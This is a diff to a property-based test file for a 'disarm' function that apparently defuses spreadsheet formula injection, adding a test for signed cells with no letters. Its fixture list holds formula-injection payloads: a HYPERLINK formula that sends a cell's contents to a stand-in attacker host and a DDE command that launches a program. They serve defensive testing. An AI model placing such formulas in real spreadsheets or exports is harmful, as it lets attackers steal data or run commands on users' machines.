@@ -1,6 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
-import { disarm } from '../../src/values/formula.js';
+import { kindsIn } from '../../src/values/characters.js';
+import { disarm, isSigned } from '../../src/values/formula.js';
 
 const RUNS = [
   '=1+1', '=SUM(A1:A10)', '=HYPERLINK("http://evil.example/?x="&A1,"click")', `=cmd|' /C calc'!A0`, '=A1', '==1', '=+1', '=-1',
@@ -30,6 +31,17 @@ describe('disarm', () => {
       expect(disarm(safe)).toBe(safe);
       expect(/^[\s\ufeff]*[=+\-@\uff1d].*[|]/su.test(safe) && safe.trim().length > 1 && !/^[\s\ufeff]*="[^"]*"\s*$/u.test(safe)).toBe(false);
     }), { numRuns: 3000 });
+  });
+
+  test('a sign and no letters run nowhere', () => {
+    let signed = 0;
+    fc.assert(fc.property(fc.constantFrom('+', '-', '=', '@', ''), fc.array(fc.constantFrom('=', '+', '-', '@', '|', '!', '(', ')', ' ', '7', '49', '"', '.', '1E', 'x'), { maxLength: 8 }), (sign, rest) => {
+      const text = sign + rest.join('');
+      if (!isSigned(text.charCodeAt(0), kindsIn(text))) return;
+      signed++;
+      expect(disarm(text)).toBe(text);
+    }), { numRuns: 5000 });
+    expect(signed).toBeGreaterThan(500);
   });
 
   test('takes a long cell without delay', () => {
